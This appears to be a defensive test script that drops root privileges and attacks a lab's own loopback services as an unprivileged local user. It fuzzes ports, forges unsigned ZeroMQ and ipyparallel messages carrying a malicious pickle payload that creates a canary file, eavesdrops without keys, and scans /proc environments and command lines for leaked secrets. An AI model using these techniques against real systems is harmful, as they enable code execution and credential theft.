"""Attacks a lab as another user of the machine. Root starts this script, which then gives up all rights.

It reads the listening ports and the lab's folders from standard input and prints "ready" once it subscribes to the
ports. It tries until it reads a line, then prints its findings as JSON. Every try is bounded and stays on the loopback.
"""

from __future__ import annotations

import json
import os
import pickle
import random
import re
import socket
import stat
import struct
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import zmq

NOBODY = 65534
LISTED = 20_000  # maximum number of names that the script looks at
HEAD = struct.Struct("<HBIqddQ")
HUGE = HEAD.pack(1, 1, 0, -1, 0.0, 0.0, 2**62)
NAME = re.compile(r"[0-9a-f]{16,}")


def become_nobody() -> None:
    """Gives up every right of this process, for good."""
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    os.chdir("/")
    try:
        os.setuid(0)
    except PermissionError:
        return
    raise SystemExit("this process could become root again")


def walk(folders: list[str]) -> Iterator[Path]:
    """Yields names below `folders` that this user can list, at most `LISTED`."""
    todo, seen = [Path(f) for f in folders], 0
    while todo and seen < LISTED:
        try:
            inside = list(todo.pop().iterdir())
        except OSError:
            continue
        for path in inside:
            seen += 1
            yield path
            try:
                if stat.S_ISDIR(path.lstat().st_mode):
                    todo.append(path)
            except OSError:
                continue


def files(folders: list[str]) -> tuple[list[str], list[str]]:
    """Returns (names that may be a run's, files that this user can read or write) below the lab's `folders`."""
    names, opened = set(), []
    for path in walk(folders):
        names.update(NAME.findall(path.name))
        for mode in (os.O_RDONLY, os.O_WRONLY):
            try:
                if path.is_file():
                    os.close(os.open(path, mode | os.O_NONBLOCK))
                    opened.append(str(path))
            except OSError:
                continue
    return sorted(names), opened


def said(names: list[str]) -> Iterator[bytes]:
    """Yields messages for a listener: nothing, noise, and claims to be a rank with proof that a stranger can guess."""
    rng = random.Random(7)
    yield b""
    yield HUGE
    yield rng.randbytes(3000)
    for rank in (0, 1, 2, 2**32 - 1):
        yield struct.pack("<I", rank) + bytes(64) + HUGE
        for name in names[-20:]:
            yield struct.pack("<I", rank) + name.encode() + HUGE
    for n in range(8):  # a gloo peer begins with a number
        yield struct.pack("<q", n) + rng.randbytes(64)


def knock(port: int, words: bytes) -> bytes:
    """Connects to the port, sends `words` and returns the answer of a moment."""
    got = b""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as s:
            s.settimeout(0.05)
            s.sendall(words)
            while len(got) < 10**6 and (more := s.recv(65536)):
                got += more
    except OSError:
        pass
    return got


class Order:
    """An object that creates the file `where` if a process unpickles it."""

    def __init__(self, where: str) -> None:
        self.where = where

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (self.where, "w")


def messages(where: str) -> Iterator[list[bytes]]:
    """Yields unsigned orders of an ipyparallel client and of the lab."""
    order = pickle.dumps(Order(where))
    head = json.dumps({"msg_id": "1", "msg_type": "apply_request", "username": "x", "session": "x", "version": "5.3"})
    for kind in ("apply_request", "execute_request", "registration_request", "shutdown_request", "purge_request"):
        about = head.replace("apply_request", kind).encode()
        content = json.dumps({"code": f"open({where!r}, 'w')", "targets": "all", "silent": False}).encode()
        yield [b"<IDS|MSG>", b"", about, b"{}", b"{}", content, order, order]
    for what in ("learn", "abort", "own", "trust", "file"):
        ask = {"number": 1, "what": what, "name": "run.json", "start": 0, "owner": None, "home": "x", "secret": "00"}
        yield [json.dumps(ask).encode(), order]
    yield [order]


def talk(ports: list[int], where: str) -> tuple[int, bytes]:
    """Returns (messages sent, answers): first as a client without keys, then with unknown keys."""
    sent, heard = 0, b""
    with zmq.Context() as context:
        for port in ports:
            for kind in (zmq.DEALER, zmq.PUB, zmq.REQ):
                for keyed in (False, True):
                    with context.socket(kind) as s:
                        s.linger, s.sndtimeo = 0, 50
                        if keyed:
                            s.curve_serverkey, _ = zmq.curve_keypair()
                            s.curve_publickey, s.curve_secretkey = zmq.curve_keypair()
                        s.connect(f"tcp://127.0.0.1:{port}")
                        sent, heard = sent + deliver(s, kind, where), heard + answers(s, kind)
    return sent, heard


def deliver(s: Any, kind: int, where: str) -> int:
    """Sends each message unless the socket refuses it, and returns how many it sent."""
    sent = 0
    for message in messages(where):
        try:
            s.send_multipart(message)
        except zmq.ZMQError:
            break
        sent += 1
    return sent


def answers(s: Any, kind: int) -> bytes:
    heard = b""
    while kind != zmq.PUB and s.poll(20):
        heard += b"".join(s.recv_multipart())
    return heard


def told(secrets: list[str]) -> list[str]:
    """Returns secrets that any user can read in a process's command line, environment or mapped names."""
    said = b""
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ", "maps"):
            try:
                said += (process / name).read_bytes()
            except OSError:
                continue
    for folder in ("/dev/shm", "/dev/mqueue", "/run", "/proc/net"):
        said += b"".join(path.name.encode() for path in walk([folder]))
    said += Path("/proc/net/unix").read_bytes()
    return [secret for secret in secrets if secret.encode() in said]


class Ear:
    """Subscribes without keys on every port and keeps each message."""

    def __init__(self, ports: list[int]) -> None:
        self.context = zmq.Context()
        self.heard = b""
        self.ended = threading.Event()
        self.socket = self.context.socket(zmq.SUB)
        self.socket.subscribe(b"")
        for port in ports:
            self.socket.connect(f"tcp://127.0.0.1:{port}")
        self.thread = threading.Thread(target=self.listen, daemon=True)
        self.thread.start()

    def listen(self) -> None:
        while not self.ended.is_set():
            if self.socket.poll(100):
                self.heard += b"".join(self.socket.recv_multipart())

    def close(self) -> bytes:
        self.ended.set()
        self.thread.join()
        self.context.destroy(0)
        return self.heard


def main() -> dict[str, Any]:
    asked = json.loads(sys.stdin.readline())
    "loaded now".encode("idna")  # after it loses its rights, the process may be unable to read Python's files
    become_nobody()
    ear = Ear(asked["ports"])
    names, opened = files(asked["folders"])
    print("ready", flush=True)
    heard, tries, until = b"", 0, time.monotonic() + asked["seconds"]
    crowd: list[socket.socket] = []
    for words in said(names):
        for port in asked["ports"]:
            if time.monotonic() < until:
                heard, tries = heard + knock(port, words), tries + 1
    for port in asked["ports"] * 4:  # some connections stay open in silence
        try:
            crowd.append(socket.create_connection(("127.0.0.1", port), timeout=1))
        except OSError:
            continue
    sent, more = talk(asked["ports"], asked["canary"])
    heard += more
    print("tried", flush=True)
    sys.stdin.readline()
    heard += ear.close()
    wanted = [text for text in asked["secrets"] if text.encode() in heard]
    return {"uid": os.getuid(), "tries": tries, "opened": opened, "names": names, "heard": wanted, "crowd": len(crowd),
            "sent": sent, "told": told(asked["secrets"])}  # fmt: skip


if __name__ == "__main__":
    print(json.dumps(main()), flush=True)
